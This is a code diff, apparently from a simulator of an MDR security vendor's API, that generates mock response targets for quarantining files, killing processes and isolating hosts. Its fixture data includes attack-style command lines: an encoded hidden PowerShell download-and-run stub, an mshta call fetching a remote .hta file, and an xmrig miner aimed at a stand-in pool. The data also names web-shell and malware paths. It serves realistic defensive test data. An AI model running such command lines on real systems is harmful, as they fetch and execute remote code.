@@ -23,6 +23,101 @@ const POSIX_RESPONSE_TYPES = RESPONSE_TYPES.filter((t) => t !== 'PREVENTION');
 
 export const DAY = DAY_MS;
 
+/** Files a SOC asks to copy, quarantine, delete or block: paths by OS family, as an attack leaves them. */
+const ARTIFACTS = {
+  windows: [
+    'C:\\Users\\Public\\Downloads\\invoice_2211.js',
+    'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe',
+    'C:\\Windows\\Temp\\rclone.exe',
+    'C:\\Users\\Public\\Libraries\\update.dll',
+    'C:\\Windows\\System32\\Tasks\\OneDriveSync.xml',
+    'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx',
+  ],
+  linux: ['/tmp/.X11-unix/.kworker', '/var/tmp/kinsing', '/dev/shm/.x/xmrig', '/etc/cron.d/.sysupdate'],
+};
+const PROCESSES: Record<'windows' | 'linux', readonly (readonly [string, string, string])[]> = {
+  windows: [
+    [
+      'powershell.exe',
+      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+    ],
+    [
+      'rundll32.exe',
+      'C:\\Windows\\System32\\rundll32.exe',
+      'C:\\Users\\Public\\Libraries\\update.dll,DllRegisterServer',
+    ],
+    ['svchost32.exe', 'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe', '-k netsvcs'],
+    ['mshta.exe', 'C:\\Windows\\System32\\mshta.exe', 'https://cdn-update.example.net/p.hta'],
+  ],
+  linux: [
+    ['kinsing', '/var/tmp/kinsing', ''],
+    ['xmrig', '/dev/shm/.x/xmrig', '--donate-level 1 -o pool.example.net:3333'],
+  ],
+};
+
+/** `length` hex digits, eight per draw (the simulated estate draws tens of thousands of hashes). */
+function hex(rng: Random, length: number): string {
+  let out = '';
+  while (out.length < length) out += (Math.floor(rng.next() * 2 ** 32) >>> 0).toString(16).padStart(8, '0');
+  return out.slice(0, length);
+}
+
+/**
+ * What a proposed response acts on, in MDR's `details` (and `parameters` where the vendor puts
+ * them): drawn from the response's own id so adding targets shifts no other simulated data.
+ */
+/** Response types whose target is a file on the host. */
+const FILE_TYPES = new Set(['COPY_FILE_TO_SOC', 'QUARANTINE_FILE', 'DELETE_FILE', 'PREVENTION']);
+
+function responseTarget(
+  type: string,
+  responseId: string,
+  asset: wire.Asset,
+  isolationHours: number,
+): Pick<wire.Response, 'details' | 'parameters'> {
+  const r = new Random(`mdr:response:${responseId}`);
+  const family = /windows/i.test(asset.os_version ?? '') ? 'windows' : 'linux';
+  const file = r.pick(ARTIFACTS[family]);
+  const hashes = () => ({ md5: hex(r, 32), sha256: hex(r, 64) });
+  switch (type) {
+    case 'COPY_FILE_TO_SOC':
+      return { details: { file_path: file, file_size_limit: r.pick([10, 50, 100]) }, parameters: null };
+    case 'QUARANTINE_FILE':
+    case 'DELETE_FILE':
+      return { details: { file_path: file, ...hashes() }, parameters: null };
+    case 'PREVENTION':
+      return { details: { file_path: file, ...hashes() }, parameters: null };
+    case 'KILL_PROCESS': {
+      const [name, path, args] = r.pick(PROCESSES[family]);
+      return {
+        details: {
+          process_id: r.int(400, 65_000),
+          process_name: name,
+          file_path: path,
+          command_line: args ? `"${path}" ${args}` : path,
+          sha256: hex(r, 64),
+        },
+        parameters: null,
+      };
+    }
+    case 'RUN_SCRIPT':
+      return family === 'windows'
+        ? {
+            details: { file_path: 'C:\\ProgramData\\Kaspersky Lab\\MDR\\collect_triage.ps1', file_size_limit: 0 },
+            parameters: { interpreter: 'powershell', workingDirectory: 'C:\\Windows', interpreterParameters: null },
+          }
+        : {
+            details: { file_path: '/opt/kaspersky/mdr/collect_triage.sh', file_size_limit: 0 },
+            parameters: { interpreter: 'bash', workingDirectory: '/tmp', interpreterParameters: null },
+          };
+    case 'ISOLATE_HOST':
+      return { details: {}, parameters: { isolation_period_s: 3600 * isolationHours } };
+    default:
+      return { details: {}, parameters: null };
+  }
+}
+
 /** The id alphabet of the vendor's 20-character (Elasticsearch-style) incident ids. */
 const ID_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
 export function esId(rng: Random): string {
@@ -275,31 +370,40 @@ export function materializeIncident(seed: number, core: IncidentCore, mdr: MdrAs
   const span = Math.max(1, core.update_time - core.creation_time);
   const at = (share: number) => core.creation_time + Math.floor(span * share);
 
+  // A scenario written for Windows may land on a Mac: its own file and process then do not fit.
+  const ownFits = windows === /^[A-Z]:\\/.test(file);
+  // Responses act on the hosts of the scenario's OS: the file and process they name are of that OS.
+  const targets = hosts.filter((_, i) => mdr.machines[core.hosts[i]!]!.osFamily === machine.osFamily);
   const responses = core.responses.map(({ type, status }, k): wire.Response => {
-    const asset = hosts[k % hosts.length]!;
+    const asset = targets[k % targets.length]!;
     const t = at(0.2 + 0.1 * k);
+    const id = responseId(core.index, k, rng);
+    const target = responseTarget(type, id, asset, rng.int(1, 24));
     return {
-      response_id: responseId(core.index, k, rng),
+      response_id: id,
       incident_id: core.incident_id,
       type,
       status,
       asset_id: asset.asset_id,
       comment: status === 'Declined' ? 'Automatically rejected, because the task timeout has expired' : '',
       description: `${type.replace(/_/g, ' ').toLowerCase()} on ${asset.host_name}`,
-      details:
-        type === 'COPY_FILE_TO_SOC' || type === 'QUARANTINE_FILE' || type === 'DELETE_FILE'
-          ? { file_path: file, file_size_limit: 100 }
+      // The target as the response type names it; the incident's own file and process where it has them.
+      details: !ownFits
+        ? target.details
+        : FILE_TYPES.has(type)
+          ? { ...target.details, file_path: file }
           : type === 'KILL_PROCESS'
-            ? { process_name: processName(s.chain[s.chain.length - 1]!), pid: rng.int(1_000, 60_000) }
-            : {},
+            ? {
+                ...target.details,
+                process_name: processName(s.chain[s.chain.length - 1]!),
+                file_path: s.chain[s.chain.length - 1]!.split(' ')[0]!.replace('%u', sam),
+                command_line: s.chain[s.chain.length - 1]!.replace('%u', sam),
+              }
+            : target.details,
       parameters:
-        type === 'RUN_SCRIPT'
-          ? windows
-            ? { interpreter: 'powershell', workingDirectory: 'C:\\Windows\\Temp', interpreterParameters: null }
-            : { interpreter: 'bash', workingDirectory: '/tmp', interpreterParameters: null }
-          : type === 'ISOLATE_HOST'
-            ? { isolation_period_s: 3600 * rng.int(1, 24) }
-            : null,
+        type === 'RUN_SCRIPT' && windows
+          ? { ...target.parameters, workingDirectory: 'C:\\Windows\\Temp' }
+          : target.parameters,
       creation_time: t,
       update_time: status === 'Waiting' ? t : at(0.5 + 0.1 * k),
       was_read: rng.chance(0.5),
